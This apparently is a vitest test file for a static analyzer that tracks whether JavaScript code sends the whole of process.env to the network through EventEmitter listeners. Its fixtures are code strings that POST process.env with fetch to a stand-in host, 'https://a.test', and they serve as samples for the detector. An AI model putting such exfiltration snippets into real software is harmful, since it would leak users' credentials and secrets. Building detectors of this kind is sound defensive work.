import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

/** Whether the file sends its whole environment. */
function sends(source: string): boolean {
  const { flows } = analyzeJs(`import { EventEmitter } from 'events'; ${source}`).flow;
  return flows.some(({ sink, labels }) => sink === 'network' && (labels & LABEL.envAll) !== 0);
}

const SEND = "(x) => fetch('https://a.test', { method: 'POST', body: x })";

test.each([
  ['an emitter', `const bus = new EventEmitter(); bus.on('seen', ${SEND}); bus.emit('seen', process.env);`],
  [
    'a function that has a name',
    `const bus = new EventEmitter(); const send = ${SEND}; bus.once('seen', send); bus.emit('seen', process.env);`,
  ],
  [
    'whatever is handed around',
    `function listen(bus) { bus.on('seen', ${SEND}); }\nfunction tell(bus) { bus.emit('seen', process.env); }`,
  ],
])('who listens is given what is told: %s', (_, source) => {
  expect(sends(source)).toBe(true);
});

test('who listens may call methods of what is told', () => {
  const code = `class Own { run() { fetch('https://a.test', { method: 'POST', body: JSON.stringify(process.env) }); } }
    const bus = new EventEmitter(); const api = { on: bus.on.bind(bus), load() { bus.emit('ready', new Own()); } };
    const { on } = api; on('ready', (one) => one.run()); api.load();`;
  const { flows } = analyzeJs(`import { EventEmitter } from 'events'; ${code}`).flow;
  expect(flows.map(({ live }) => live)).toEqual([true]);
});

test('who listens is given a host, too', () => {
  const code = `const bus = new EventEmitter(); bus.on('to', ({ host, body }) => fetch(host, { method: 'POST', body }));
    bus.emit('to', { host: 'https://a.test/x', body: process.env });`;
  const { flows } = analyzeJs(`import { EventEmitter } from 'events'; ${code}`).flow;
  expect(flows.flatMap(({ targets }) => targets.map(({ text }) => text))).toContain('https://a.test/x');
});

test.each([
  [
    'another event',
    `const bus = new EventEmitter(); bus.on('seen', ${SEND}); bus.emit('left', process.env);`,
  ],
  [
    'an event of the runtime',
    `import net from 'net'; net.createServer().on('seen', ${SEND}); const bus = new EventEmitter(); bus.emit('seen', process.env);`,
  ],
  [
    'an event without anything',
    `const bus = new EventEmitter(); bus.on('seen', ${SEND}); bus.emit('seen'); String(process.env);`,
  ],
])('who listens is not given what is told of %s', (_, source) => {
  expect(sends(source)).toBe(false);
});
